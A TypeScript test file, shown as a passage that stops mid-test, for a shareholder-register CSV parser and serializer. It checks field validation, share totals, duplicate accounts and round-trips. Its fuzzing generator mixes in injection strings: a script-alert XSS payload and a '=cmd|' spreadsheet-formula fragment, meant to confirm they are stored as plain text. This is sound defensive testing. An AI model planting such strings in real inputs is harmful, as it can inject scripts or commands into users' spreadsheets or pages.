import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ACCOUNT_PATTERN, type Holder } from '../../shared/domain/holder.ts';
import { InvalidInputError } from '../../shared/domain/meeting.ts';
import {
  AccountIndex,
  accountHash,
  parseRegister,
  REGISTER_COLUMNS,
  type RegisterColumn,
  RegisterError,
  type RegisterProblem,
  serializeRegister,
} from '../../shared/domain/register.ts';

const HEADER = REGISTER_COLUMNS.join(',');
type Cells = Record<RegisterColumn, string>;

/** A good line, as raw CSV text for each column (overrides are raw too: quotes are theirs to write). */
function line(account: string, shares: number, over: Partial<Cells> = {}): string {
  const cells: Cells = {
    account,
    name: 'Jane Smith',
    joint_names: '',
    email: 'jane@example.com',
    e_delivery: 'yes',
    mailing_address: '1 Main Street',
    shares: String(shares),
    nominee: 'no',
    ...over,
  };
  return REGISTER_COLUMNS.map((c) => cells[c]).join(',');
}

function file(...lines: string[]): string {
  return `${[HEADER, ...lines].join('\n')}\n`;
}

/** The RegisterError a parse throws (fails the test if it returns). */
function failure(csv: string, expectedShares: number): RegisterError {
  try {
    parseRegister(csv, expectedShares);
  } catch (e) {
    if (e instanceof RegisterError) return e;
    throw e;
  }
  throw new Error('parseRegister accepted the register');
}

const lineIssues = (e: RegisterError) => e.issues.filter((p) => p.line > 0);

describe('parseRegister: each problem with its line and field', () => {
  const long = (n: number) => 'x'.repeat(n);
  const cases: { what: string; over: Partial<Cells> | string; field: string; message: RegExp }[] = [
    // account
    {
      what: 'account with a space',
      over: { account: 'A 2' },
      field: 'account',
      message: /1 to 32 letters, digits and hyphens.*"A 2"/,
    },
    {
      what: 'account starting with a hyphen',
      over: { account: '-A2' },
      field: 'account',
      message: /starting with a letter or digit/,
    },
    { what: 'account of 33 characters', over: { account: long(33) }, field: 'account', message: /1 to 32/ },
    { what: 'empty account', over: { account: '' }, field: 'account', message: /must not be empty/ },
    // name
    { what: 'empty name', over: { name: '  ' }, field: 'name', message: /must not be empty/ },
    {
      what: 'tab inside a name',
      over: { name: 'Jane\tSmith' },
      field: 'name',
      message: /control character \(U\+0009\)/,
    },
    {
      what: 'line break inside a name',
      over: { name: '"Jane\nSmith"' },
      field: 'name',
      message: /line break: only mailing_address/,
    },
    {
      what: 'CRLF inside a name',
      over: { name: '"Jane\r\nSmith"' },
      field: 'name',
      message: /line break: only mailing_address/,
    },
    {
      what: 'NUL inside a name',
      over: { name: 'Jane\u0000' },
      field: 'name',
      message: /control character \(U\+0000\)/,
    },
    {
      what: 'C1 control inside a name',
      over: { name: 'Jane\u0085Smith' },
      field: 'name',
      message: /control character \(U\+0085\)/,
    },
    {
      what: 'right-to-left override in a name',
      over: { name: 'Jane\u202eSmith' },
      field: 'name',
      message: /bidirectional .*U\+202E/,
    },
    {
      what: 'line separator in a name',
      over: { name: 'Jane\u2028Smith' },
      field: 'name',
      message: /U\+2028/,
    },
    {
      what: 'replacement character (bad encoding)',
      over: { name: 'Jos\ufffd Garc\ufffda' },
      field: 'name',
      message: /not valid UTF-8: save the register as UTF-8/,
    },
    {
      what: 'unpaired surrogate in a name',
      over: { name: 'Jane\ud800Smith' },
      field: 'name',
      message: /unpaired surrogate/,
    },
    {
      what: 'name of 201 characters',
      over: { name: long(201) },
      field: 'name',
      message: /at most 200 characters \(it has 201\)/,
    },
    // joint_names
    {
      what: 'empty joint name between semicolons',
      over: { joint_names: 'A;;B' },
      field: 'joint_names',
      message: /joint name 2 of 3 is empty/,
    },
    {
      what: 'trailing semicolon in joint names',
      over: { joint_names: 'A;' },
      field: 'joint_names',
      message: /joint name 2 of 2 is empty/,
    },
    {
      what: 'control character in a joint name',
      over: { joint_names: 'A;B\u0007' },
      field: 'joint_names',
      message: /joint name 2 contains a control character/,
    },
    {
      what: '21 joint names',
      over: { joint_names: Array(21).fill('A').join(';') },
      field: 'joint_names',
      message: /at most 20/,
    },
    {
      what: 'joint name of 201 characters',
      over: { joint_names: `A;${long(201)}` },
      field: 'joint_names',
      message: /joint name 2 must be at most 200/,
    },
    // email
    {
      what: 'e-mail without a top-level domain',
      over: { email: 'jane@example' },
      field: 'email',
      message: /not a plausible e-mail address/,
    },
    {
      what: 'e-mail without @',
      over: { email: 'jane.example.com' },
      field: 'email',
      message: /not a plausible/,
    },
    {
      what: 'e-mail with a space',
      over: { email: 'jane smith@example.com' },
      field: 'email',
      message: /not a plausible/,
    },
    {
      what: 'e-mail with a double dot',
      over: { email: 'jane..smith@example.com' },
      field: 'email',
      message: /not a plausible/,
    },
    {
      what: 'two e-mail addresses',
      over: { email: 'a@example.com;b@example.com' },
      field: 'email',
      message: /more than one address/,
    },
    {
      what: 'two e-mail addresses, comma',
      over: { email: '"a@example.com, b@example.com"' },
      field: 'email',
      message: /more than one address/,
    },
    {
      what: 'e-mail too long',
      over: { email: `${long(60)}@${long(200)}.com` },
      field: 'email',
      message: /not a plausible/,
    },
    // e_delivery
    {
      what: 'e_delivery maybe',
      over: { e_delivery: 'maybe' },
      field: 'e_delivery',
      message: /must be yes or no, not "maybe"/,
    },
    {
      what: 'e_delivery empty',
      over: { e_delivery: '' },
      field: 'e_delivery',
      message: /must be yes or no \(it is empty\)/,
    },
    {
      what: 'e_delivery y',
      over: { e_delivery: 'y' },
      field: 'e_delivery',
      message: /must be yes or no, not "y"/,
    },
    { what: 'e_delivery 1', over: { e_delivery: '1' }, field: 'e_delivery', message: /must be yes or no/ },
    {
      what: 'e_delivery typo',
      over: { e_delivery: 'yse' },
      field: 'e_delivery',
      message: /must be yes or no/,
    },
    {
      what: 'e_delivery yes without e-mail',
      over: { email: '' },
      field: 'e_delivery',
      message: /is yes, but there is no e-mail address/,
    },
    // mailing_address
    {
      what: 'empty address',
      over: { mailing_address: '' },
      field: 'mailing_address',
      message: /must not be empty/,
    },
    {
      what: 'address of blank lines',
      over: { mailing_address: '" \n \r\n "' },
      field: 'mailing_address',
      message: /must not be empty/,
    },
    {
      what: 'address with a tab',
      over: { mailing_address: '"1 Main St\tApt 4"' },
      field: 'mailing_address',
      message: /control character \(U\+0009\)/,
    },
    {
      what: 'address of 11 lines',
      over: { mailing_address: `"${Array(11).fill('x').join('\n')}"` },
      field: 'mailing_address',
      message: /at most 10 lines \(it has 11\)/,
    },
    {
      what: 'address of 501 characters',
      over: { mailing_address: long(501) },
      field: 'mailing_address',
      message: /at most 500 characters/,
    },
    // shares
    {
      what: 'empty shares',
      over: { shares: '' },
      field: 'shares',
      message: /whole number of shares greater than 0 \(it is empty\)/,
    },
    { what: 'zero shares', over: { shares: '0' }, field: 'shares', message: /greater than 0/ },
    { what: 'zeros', over: { shares: '000' }, field: 'shares', message: /greater than 0/ },
    { what: 'negative shares', over: { shares: '-5' }, field: 'shares', message: /greater than 0, not "-5"/ },
    {
      what: 'thousands separator',
      over: { shares: '"1,000"' },
      field: 'shares',
      message: /without thousands separators: 1000, not "1,000"/,
    },
    {
      what: 'space as separator',
      over: { shares: '1 000 000' },
      field: 'shares',
      message: /without thousands separators: 1000000/,
    },
    {
      what: 'apostrophe as separator',
      over: { shares: "1'000" },
      field: 'shares',
      message: /without thousands separators/,
    },
    {
      what: 'dot (a separator or a decimal point?)',
      over: { shares: '1.000' },
      field: 'shares',
      message: /without a decimal point/,
    },
    {
      what: 'fractional shares',
      over: { shares: '1.5' },
      field: 'shares',
      message: /without a decimal point or fractional shares, not "1.5"/,
    },
    {
      what: 'whole number with a decimal point',
      over: { shares: '100.0' },
      field: 'shares',
      message: /without a decimal point/,
    },
    { what: 'exponent', over: { shares: '1e6' }, field: 'shares', message: /digits only/ },
    { what: 'plus sign', over: { shares: '+5' }, field: 'shares', message: /digits only/ },
    {
      what: 'leading zeros',
      over: { shares: '0100' },
      field: 'shares',
      message: /without leading zeros, not "0100"/,
    },
    {
      what: 'above MAX_SAFE_INTEGER',
      over: { shares: '9007199254740992' },
      field: 'shares',
      message: /must not exceed 9,007,199,254,740,991/,
    },
    {
      what: 'far too many digits',
      over: { shares: '123456789012345678901' },
      field: 'shares',
      message: /must not exceed/,
    },
    // nominee
    { what: 'nominee x', over: { nominee: 'x' }, field: 'nominee', message: /must be yes or no, not "x"/ },
    {
      what: 'nominee empty',
      over: { nominee: '' },
      field: 'nominee',
      message: /must be yes or no \(it is empty\)/,
    },
    // the shape of the line
    {
      what: 'an unquoted comma (9 values)',
      over: 'A-2,Smith, Jane,,,no,1 Main St,100,no',
      field: '',
      message: /has 9 values, the header has 8: is there an unquoted comma/,
    },
    {
      what: 'a missing value (7 values)',
      over: 'A-2,Jane,,,no,1 Main St,100',
      field: '',
      message: /has 7 values, the header has 8$/,
    },
    {
      what: 'a quote inside an unquoted value',
      over: { name: 'Bob "B" Lee' },
      field: 'name',
      message: /quote inside a value that does not start with one/,
    },
    {
      what: 'text after the closing quote',
      over: { name: '"Bob" Lee' },
      field: 'name',
      message: /text after the closing quote/,
    },
    {
      what: 'an unclosed quote',
      over: { name: '"Bob Lee' },
      field: 'name',
      message: /quote opened on line 3 is never closed/,
    },
  ];

  it.each(cases)('$what: line 3, field "$field"', ({ over, field, message }) => {
    const bad = typeof over === 'string' ? over : line('A-2', 200, over);
    const e = failure(file(line('A-1', 100), bad, line('A-3', 300)), 600);
    const issues = lineIssues(e);
    expect(issues).toHaveLength(1);
    expect(issues[0]).toMatchObject({ line: 3, field });
    expect(issues[0]?.message).toMatch(message);
  });

  it('the line after a multi-line quoted address is numbered by its physical line', () => {
    const e = failure(
      file(
        line('A-1', 100, { mailing_address: '"1 Main St\nApt 4\r\nAnytown"' }),
        line('A-2', 200, { shares: 'x' }),
      ),
      300,
    );
    expect(lineIssues(e)).toEqual([expect.objectContaining({ line: 5, field: 'shares' })]);
  });

  it('a record whose quoted name spans lines is reported on the line where it starts', () => {
    const e = failure(
      file(line('A-1', 100), line('A-2', 200, { name: '"Jane\n\nSmith"' }), line('A-3', 1, { nominee: '?' })),
      301,
    );
    expect(lineIssues(e).map((p) => [p.line, p.field])).toEqual([
      [3, 'name'],
      [6, 'nominee'],
    ]);
  });
});

describe('parseRegister: what it accepts', () => {
  it('reads quoted commas, doubled quotes, multi-line addresses, joint names, and the nominee', () => {
    const csv = file(
      'CEDE,Cede & Co.,,,no,"c/o The Depository Trust Company\n55 Water Street\nNew York, NY 10041",1000,yes',
      'A-1,"Smith, Jane","John Smith; Mary ""Mo"" Smith",jane@example.com,yes,"1 Main St\r\n  Apt 4  \n\nAnytown, CA",250,no',
    );
    expect(parseRegister(csv, 1250).holders).toEqual([
      {
        account: 'CEDE',
        name: 'Cede & Co.',
        jointNames: [],
        email: null,
        eDelivery: false,
        mailingAddress: 'c/o The Depository Trust Company\n55 Water Street\nNew York, NY 10041',
        shares: 1000,
        nominee: true,
      },
      {
        account: 'A-1',
        name: 'Smith, Jane',
        jointNames: ['John Smith', 'Mary "Mo" Smith'],
        email: 'jane@example.com',
        eDelivery: true,
        mailingAddress: '1 Main St\nApt 4\nAnytown, CA',
        shares: 250,
        nominee: false,
      },
    ]);
  });

  it('reads the same holders from LF, CRLF, lone CR, with a BOM, and without a final line break', () => {
    const lines = [HEADER, line('A-1', 100), line('A-2', 200, { mailing_address: '"1 Main St\nAnytown"' })];
    const expected = parseRegister(`${lines.join('\n')}\n`, 300).holders;
    for (const text of [
      lines.join('\r\n'),
      `${lines.join('\r\n')}\r\n`,
      `${lines.join('\r')}\r`,
      `\ufeff${lines.join('\r\n')}\r\n`,
      `\ufeff${lines.join('\n')}`,
    ]) {
      expect(parseRegister(text, 300).holders).toEqual(expected);
    }
    expect(expected[1]?.mailingAddress).toBe('1 Main St\nAnytown');
  });

  it('numbers lines the same with CRLF inside quotes and between records', () => {
    const csv = [
      HEADER,
      line('A-1', 100, { mailing_address: '"a\r\nb\r\nc"' }),
      line('A-2', 1, { shares: 'x' }),
    ].join('\r\n');
    expect(lineIssues(failure(csv, 101))).toEqual([expect.objectContaining({ line: 5, field: 'shares' })]);
    const oldMac = [
      HEADER,
      line('A-1', 100, { mailing_address: '"a\rb"' }),
      line('A-2', 1, { shares: 'x' }),
    ].join('\r');
    expect(lineIssues(failure(oldMac, 101))).toEqual([expect.objectContaining({ line: 4, field: 'shares' })]);
  });

  it('skips blank lines, and ignores spaces around values, quoted or not', () => {
    const csv = `\n${HEADER}\n\n   \n${line('A-1', 100, { name: '  "Smith, Jane"  ', shares: ' 100 ', email: ' jane@example.com ' })}\n\n`;
    const [h] = parseRegister(csv, 100).holders;
    expect(h).toMatchObject({ name: 'Smith, Jane', shares: 100, email: 'jane@example.com' });
  });

  it('does not take a line holding only "" for a blank line', () => {
    expect(lineIssues(failure(file(line('A-1', 1), '""'), 1))).toEqual([
      { line: 3, field: '', message: 'has 1 value, the header has 8' },
    ]);
  });

  it('accepts yes/no/true/false in any case', () => {
    const rows = [
      line('A-1', 1, { e_delivery: 'YES', nominee: 'No' }),
      line('A-2', 1, { e_delivery: 'True', nominee: 'FALSE' }),
      line('A-3', 1, { e_delivery: 'no', nominee: 'true', email: '' }),
    ];
    const holders = parseRegister(file(...rows), 3).holders;
    expect(holders.map((h) => [h.eDelivery, h.nominee])).toEqual([
      [true, false],
      [true, false],
      [false, true],
    ]);
  });

  it('accepts international names and e-mail addresses, and HTML as plain text', () => {
    const csv = file(
      line('A-1', 5, {
        name: 'José García-López 中村 <b>&amp;</b>',
        email: 'josé.garcía@bücher.de',
        joint_names: '"Zoë Ørsted;O\'Brien, ""Pat"""',
      }),
    );
    expect(parseRegister(csv, 5).holders[0]).toMatchObject({
      name: 'José García-López 中村 <b>&amp;</b>',
      email: 'josé.garcía@bücher.de',
      jointNames: ['Zoë Ørsted', 'O\'Brien, "Pat"'],
    });
  });

  it('takes an e-mail address without e-delivery consent (the notice goes on paper)', () => {
    expect(parseRegister(file(line('A-1', 5, { e_delivery: 'no' })), 5).holders[0]).toMatchObject({
      email: 'jane@example.com',
      eDelivery: false,
    });
  });

  it('reads the header in any order and case', () => {
    const order = [...REGISTER_COLUMNS].reverse();
    const values: Cells = {
      account: 'A-1',
      name: 'Jane',
      joint_names: '',
      email: '',
      e_delivery: 'no',
      mailing_address: 'x',
      shares: '7',
      nominee: 'no',
    };
    const csv = `${order.map((c) => ` ${c.toUpperCase()} `).join(',')}\n${order.map((c) => values[c]).join(',')}\n`;
    expect(parseRegister(csv, 7).holders[0]).toMatchObject({ account: 'A-1', shares: 7, name: 'Jane' });
  });

  it('reads the example in docs/register-csv.md: 7,595,175 shares with Cede & Co. and joint holders', () => {
    const doc = readFileSync(new URL('../../docs/register-csv.md', import.meta.url), 'utf8');
    const csv = /```csv\n([\s\S]*?)```/.exec(doc)?.[1];
    expect(csv).toBeDefined();
    const { holders } = parseRegister(csv as string, 7_595_175);
    expect(holders).toHaveLength(4);
    expect(holders[0]).toMatchObject({ name: 'Cede & Co.', nominee: true, shares: 7_380_000, email: null });
    expect(holders[3]?.jointNames).toEqual(['John Doe, Trustee', 'Jane Doe, Trustee']);
    expect(parseRegister(serializeRegister(holders), 7_595_175).holders).toEqual(holders);
  });
});

describe('parseRegister: the whole file', () => {
  it('reports every bad line, not just the first, and returns nothing', () => {
    const e = failure(
      file(
        line('A-1', 100, { shares: '"1,000"' }),
        line('A-2', 200),
        line('A 3', 300, { e_delivery: 'maybe' }),
        line('A-4', 400, { nominee: '' }),
      ),
      1000,
    );
    expect(lineIssues(e).map((p) => `${p.line} ${p.field}`)).toEqual([
      '2 shares',
      '4 account',
      '4 e_delivery',
      '5 nominee',
    ]);
    expect(e.message).toContain('line 2, shares: must be written with digits only');
    expect(e.message).toContain('line 4, account: must be 1 to 32 letters');
  });

  it('names the difference when the shares add up to fewer than the shares outstanding', () => {
    const e = failure(file(line('A-1', 7_000_000), line('A-2', 595_000)), 7_595_175);
    expect(e.issues).toEqual([
      {
        line: 0,
        field: 'shares',
        message: 'shares add up to 7,595,000, 175 fewer than the 7,595,175 outstanding',
      },
    ]);
    expect(e.problems).toEqual([
      'file, shares: shares add up to 7,595,000, 175 fewer than the 7,595,175 outstanding',
    ]);
    expect(e.message).toBe(
      'register is invalid:\n  file, shares: shares add up to 7,595,000, 175 fewer than the 7,595,175 outstanding',
    );
  });

  it('names the difference when the shares add up to more', () => {
    const e = failure(file(line('A-1', 7_595_175), line('A-2', 1)), 7_595_175);
    expect(e.problems).toEqual([
      'file, shares: shares add up to 7,595,176, 1 more than the 7,595,175 outstanding',
    ]);
  });

  it('adds up totals beyond Number.MAX_SAFE_INTEGER exactly', () => {
    const max = Number.MAX_SAFE_INTEGER;
    const e = failure(file(line('A-1', max), line('A-2', max), line('A-3', 3)), max);
    expect(e.problems).toEqual([
      'file, shares: shares add up to 18,014,398,509,481,985, 9,007,199,254,740,994 more than the 9,007,199,254,740,991 outstanding',
    ]);
    expect(parseRegister(file(line('A-1', max)), max).holders[0]?.shares).toBe(max);
  });

  it('checks the total only once every line has readable shares, and says so', () => {
    const e = failure(file(line('A-1', 100, { shares: 'x' }), 'A-2,too,few'), 100);
    expect(e.issues[0]).toEqual({
      line: 0,
      field: 'shares',
      message:
        'the total is checked against the 100 outstanding once every line has valid shares (2 lines do not)',
    });
  });

  it('still adds up the shares of lines that are bad elsewhere', () => {
    const e = failure(file(line('A-1', 100, { name: '' }), line('A-2', 50)), 100);
    expect(e.problems).toEqual([
      'file, shares: shares add up to 150, 50 more than the 100 outstanding',
      'line 2, name: must not be empty',
    ]);
  });

  it('refuses duplicate accounts, naming both lines, letter case ignored', () => {
    const e = failure(file(line('H-1', 1), line('H-2', 1), line('h-1', 1), line('H-1', 1)), 4);
    expect(lineIssues(e)).toEqual([
      { line: 4, field: 'account', message: 'duplicate: "h-1" is on line 2 and again on line 4' },
      { line: 5, field: 'account', message: 'duplicate: "H-1" is on line 2 and again on line 5' },
    ]);
  });

  it('finds a duplicate among thousands of accounts', () => {
    const rows = Array.from({ length: 3000 }, (_, k) => line(`Acct-${k}`, 1));
    rows.push(line('ACCT-17', 1));
    expect(lineIssues(failure(file(...rows), 3001))).toEqual([
      { line: 3002, field: 'account', message: 'duplicate: "ACCT-17" is on line 19 and again on line 3002' },
    ]);
  });

  it('allows the same name on two accounts', () => {
    expect(parseRegister(file(line('A-1', 1), line('A-2', 1)), 2).holders.map((h) => h.name)).toEqual([
      'Jane Smith',
      'Jane Smith',
    ]);
  });

  it.each([
    ['an empty file', '', { line: 1, field: '', message: expect.stringMatching(/^the file is empty/) }],
    [
      'a BOM only',
      '\ufeff\n\n',
      { line: 1, field: '', message: expect.stringMatching(/^the file is empty/) },
    ],
    [
      'a header only',
      `${HEADER}\n`,
      { line: 0, field: '', message: 'the register lists no holders; 100 shares are outstanding' },
    ],
    [
      'no header',
      `${line('A-1', 100)}\n`,
      {
        line: 1,
        field: '',
        message: expect.stringMatching(
          /^the first line is not the header: it must name the columns account,name,/,
        ),
      },
    ],
    [
      'a misspelt column',
      `${HEADER.replace('e_delivery', 'E-Delivery')}\n`,
      { line: 1, field: '', message: 'unknown column "E-Delivery": did you mean e_delivery?' },
    ],
    [
      'a missing column',
      `${HEADER.replace(',nominee', '')}\n`,
      { line: 1, field: 'nominee', message: 'the column is missing from the header' },
    ],
    [
      'a repeated column',
      `${HEADER},email\n`,
      { line: 1, field: 'email', message: 'the column appears more than once in the header' },
    ],
    ['an extra column', `${HEADER},notes\n`, { line: 1, field: '', message: 'unknown column "notes"' }],
  ])('refuses %s', (_what, csv, problem) => {
    expect(failure(csv, 100).issues).toContainEqual(problem);
  });

  it('a bad header stops there: the lines are not read', () => {
    const e = failure(`${HEADER},notes\n${line('A 1', 1)}\n`, 1);
    expect(e.issues.every((p) => p.line === 1)).toBe(true);
  });

  it('an unclosed quote names the line it opened on', () => {
    const e = failure(
      file(line('A-1', 1), line('A-2', 1, { mailing_address: '"1 Main St' }), line('A-3', 1)),
      3,
    );
    expect(lineIssues(e)).toEqual([
      {
        line: 3,
        field: 'mailing_address',
        message: 'the quote opened on line 3 is never closed, so the rest of the file is inside it',
      },
    ]);
  });

  it('is a RegisterError and an InvalidInputError, with structured and formatted problems', () => {
    const e = failure(file(line('A-1', 1, { shares: '1.5' })), 1);
    expect(e).toBeInstanceOf(InvalidInputError);
    expect(e.name).toBe('RegisterError');
    expect(e.what).toBe('register');
    expect(e.problems[1]).toBe(
      'line 2, shares: must be a whole number written with digits only, without a decimal point or fractional shares, not "1.5"',
    );
  });

  it('names the source in the message when given', () => {
    expect(() => parseRegister('', 1, 'register.csv')).toThrow(/^register\.csv is invalid:/);
  });

  it('lists at most 1,000 problems in the message but keeps them all', () => {
    const rows = Array.from({ length: 1500 }, (_, k) => line(`A-${k}`, 1, { nominee: 'x' }));
    const e = failure(file(...rows), 1500);
    expect(e.issues).toHaveLength(1500);
    expect(e.problems).toHaveLength(1500);
    expect(e.message).toMatch(/^register is invalid \(1,500 problems\):/);
    expect(e.message).toMatch(/\.\.\. and 500 more$/);
  });

  it('refuses an expectedShares that is not a whole number above 0', () => {
    for (const bad of [0, -1, 1.5, Number.NaN, 2 ** 60]) {
      expect(() => parseRegister(file(line('A-1', 1)), bad)).toThrow(RangeError);
    }
  });

  it('does not echo names, addresses or e-mail addresses in messages', () => {
    const e = failure(
      file(
        line('A-1', 1, {
          name: 'Secret\tName',
          mailing_address: 'Secret\u0001Street',
          email: 'secret@nowhere',
        }),
      ),
      1,
    );
    expect(e.message).not.toMatch(/secret/i);
  });
});

describe('AccountIndex (duplicate accounts)', () => {
  it('gives the line an account was first on, letter case ignored, as it grows', () => {
    const index = new AccountIndex();
    for (let k = 0; k < 5000; k++) expect(index.firstLine(`Acct-${k}`, k + 2)).toBeUndefined();
    expect(index.firstLine('ACCT-0', 9999)).toBe(2);
    expect(index.firstLine('acct-4999', 9999)).toBe(5001);
    expect(index.firstLine('Acct-5000', 9999)).toBeUndefined();
    expect(index.usesMap).toBe(false);
  });

  it('moves to a Map when the accounts are crafted for their hashes to collide, with the same answers', () => {
    const colliding: string[] = [];
    for (let k = 0; colliding.length < 400; k++) {
      if ((accountHash(`C${k}`) & 1023) === 0) colliding.push(`C${k}`);
    }
    const index = new AccountIndex();
    colliding.forEach((a, k) => {
      expect(index.firstLine(a, k + 2)).toBeUndefined();
    });
    expect(index.usesMap).toBe(true);
    expect(index.firstLine((colliding[7] as string).toLowerCase(), 1)).toBe(9);
    expect(index.firstLine(colliding[399] as string, 1)).toBe(401);
    expect(index.firstLine('new', 500)).toBeUndefined();
    expect(index.firstLine('NEW', 501)).toBe(500);
  });
});

describe('serializeRegister', () => {
  const cede: Holder = {
    account: 'CEDE',
    name: 'Cede & Co.',
    jointNames: [],
    email: null,
    eDelivery: false,
    mailingAddress: 'c/o The Depository Trust Company\n55 Water Street\nNew York, NY 10041',
    shares: 7_380_000,
    nominee: true,
  };
  const smith: Holder = {
    account: 'H-000101',
    name: 'Smith, Jane "JJ"',
    jointNames: ['John R. Smith', 'Mary Smith'],
    email: 'jane.smith@example.com',
    eDelivery: true,
    mailingAddress: '1200 Ventura Blvd',
    shares: 12_500,
    nominee: false,
  };

  it('writes the header, CRLF lines, and quotes only where needed', () => {
    expect(serializeRegister([cede, smith])).toBe(
      `${HEADER}\r\n` +
        'CEDE,Cede & Co.,,,no,"c/o The Depository Trust Company\n55 Water Street\nNew York, NY 10041",7380000,yes\r\n' +
        'H-000101,"Smith, Jane ""JJ""",John R. Smith;Mary Smith,jane.smith@example.com,yes,1200 Ventura Blvd,12500,no\r\n',
    );
    expect(serializeRegister([])).toBe(`${HEADER}\r\n`);
  });

  it('reads back to the same holders', () => {
    expect(parseRegister(serializeRegister([cede, smith]), 7_392_500).holders).toEqual([cede, smith]);
  });

  it.each<[string, Partial<Holder>, string, RegExp]>([
    ['spaces around a name', { name: ' Jane ' }, 'name', /spaces at the start or end/],
    ['a ";" inside a joint name', { jointNames: ['A;B'] }, 'joint_names', /contains ";"/],
    ['an empty joint name', { jointNames: [''] }, 'joint_names', /joint name/],
    ['an empty string for no e-mail', { email: '', eDelivery: false }, 'email', /must be null/],
    ['blank address lines', { mailingAddress: 'a\n\nb' }, 'mailing_address', /lines separated by/],
    ['CRLF inside the address', { mailingAddress: 'a\r\nb' }, 'mailing_address', /lines separated by/],
    ['fractional shares', { shares: 1.5 }, 'shares', /whole number/],
    ['no shares', { shares: 0 }, 'shares', /greater than 0/],
    ['shares beyond MAX_SAFE_INTEGER', { shares: 2 ** 60 }, 'shares', /whole number|must not exceed/],
    ['a bad account', { account: 'bad account' }, 'account', /letters, digits and hyphens/],
    ['e-delivery without e-mail', { email: null, eDelivery: true }, 'e_delivery', /no e-mail address/],
    ['a control character in a name', { name: 'A\u0000B' }, 'name', /control character/],
  ])('refuses to write %s', (_what, change, field, message) => {
    let e: unknown;
    try {
      serializeRegister([cede, { ...smith, ...change }]);
    } catch (caught) {
      e = caught;
    }
    expect(e).toBeInstanceOf(RegisterError);
    const issues = (e as RegisterError).issues;
    expect(issues).toHaveLength(1);
    // Cede's address takes three lines, so the second holder would start on line 5.
    expect(issues[0]).toMatchObject({ line: 5, field });
    expect(issues[0]?.message).toMatch(message);
  });

  it('refuses duplicate accounts, letter case ignored', () => {
    expect(() => serializeRegister([smith, { ...cede, account: 'h-000101' }])).toThrow(
      /line 3, account: duplicate: "h-000101" is on line 2 and again on line 3/,
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Properties.

const REFUSED = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ufffd]/u;
const hostilePiece = fc.oneof(
  fc.constantFrom('"', '""', ',', ';', "'", ' ', '  ', '\u00a0', '=cmd|', '+1', '-', '@', '\\', '/', '&amp;'),
  fc.constantFrom(
    '<script>alert("x")</script>',
    '<b>',
    '</td>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile string, not a template
    '${x}',
    '%s',
    'Ω',
    'ß',
    '中村',
    '😀',
    'e\u0301',
    '\u200d',
  ),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 3 }),
  fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 6 }),
);
const text = (maxLength: number, noSemicolon = false) =>
  fc
    .array(hostilePiece, { minLength: 1, maxLength: 10 })
    .map((parts) => {
      const s = parts.join('');
      return (noSemicolon ? s.replaceAll(';', '') : s).trim();
    })
    .filter((s) => s.length > 0 && s.length <= maxLength && !REFUSED.test(s));

const holderArb: fc.Arbitrary<Holder> = fc
  .record({
    account: fc.stringMatching(ACCOUNT_PATTERN),
    name: text(200),
    jointNames: fc.array(text(200, true), { maxLength: 3 }),
    email: fc.option(
      fc.emailAddress().filter((e) => e.length <= 254),
      { nil: null },
    ),
    eDelivery: fc.boolean(),
    mailingAddress: fc
      .array(text(100), { minLength: 1, maxLength: 5 })
      .map((lines) => lines.join('\n'))
      .filter((a) => a.length <= 500),
    shares: fc.oneof(fc.integer({ min: 1, max: 1000 }), fc.integer({ min: 1, max: 10_000_000_000_000 })),
    nominee: fc.boolean(),
  })
  .map((h) => ({ ...h, eDelivery: h.email !== null && h.eDelivery }));

const registerArb = fc.uniqueArray(holderArb, {
  minLength: 1,
  maxLength: 25,
  selector: (h) => h.account.toLowerCase(),
});

const sum = (holders: readonly Holder[]) => holders.reduce((t, h) => t + h.shares, 0);

/** An independent CSV writer for the corrupted files (the code under test is not trusted here). */
function csvRow(cells: readonly string[]): string {
  return cells.map((c) => (/[",\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(',');
}
function cellsOf(h: Holder): string[] {
  return [
    h.account,
    h.name,
    h.jointNames.join(';'),
    h.email ?? '',
    h.eDelivery ? 'yes' : 'no',
    h.mailingAddress,
    String(h.shares),
    h.nominee ? 'yes' : 'no',
  ];
}

type Corruption = { column: RegisterColumn; value: string } | 'extra value' | 'missing value' | 'duplicate';
const corruptionArb: fc.Arbitrary<Corruption> = fc.oneof(
  fc.constantFrom<Corruption>('extra value', 'missing value', 'duplicate'),
  fc.record({
    column: fc.constant<RegisterColumn>('shares'),
    value: fc.constantFrom('0', '-1', '1,000', '1.5', '1e3', 'abc', '', '0042', '99999999999999999'),
  }),
  fc.record({
    column: fc.constant<RegisterColumn>('account'),
    value: fc.constantFrom('', 'has space', '-lead', 'ü'),
  }),
  fc.record({
    column: fc.constant<RegisterColumn>('name'),
    value: fc.constantFrom('', ' ', 'a\u0000b', 'a\nb'),
  }),
  fc.record({
    column: fc.constant<RegisterColumn>('joint_names'),
    value: fc.constantFrom('a;;b', ';', 'x\u0007'),
  }),
  fc.record({
    column: fc.constant<RegisterColumn>('email'),
    value: fc.constantFrom('no-at-sign', 'a@b', 'a@b.com;c@d.com'),
  }),
  fc.record({
    column: fc.constant<RegisterColumn>('e_delivery'),
    value: fc.constantFrom('', 'maybe', 'y', '1'),
  }),
  fc.record({
    column: fc.constant<RegisterColumn>('mailing_address'),
    value: fc.constantFrom('', '\n', 'a\tb'),
  }),
  fc.record({ column: fc.constant<RegisterColumn>('nominee'), value: fc.constantFrom('', 'n', '0', 'nope') }),
);

describe('properties', () => {
  it('serialize then parse gives back any valid holders, hostile strings included', () => {
    fc.assert(
      fc.property(registerArb, (holders) => {
        const csv = serializeRegister(holders);
        expect(parseRegister(csv, sum(holders)).holders).toEqual(holders);
        // The same with LF line ends and a byte order mark.
        expect(parseRegister(`\ufeff${csv.replaceAll('\r\n', '\n')}`, sum(holders)).holders).toEqual(holders);
      }),
      { numRuns: 300 },
    );
  });

  it('one corrupted line makes the whole parse fail and names that line', () => {
    fc.assert(
      fc.property(registerArb, fc.nat(), corruptionArb, (holders, pick, corruption) => {
        let k = pick % holders.length;
        const rows = holders.map(cellsOf);
        if (corruption === 'duplicate' && holders.length < 2) return; // nothing to duplicate
        if (corruption === 'duplicate') {
          k = Math.max(1, k);
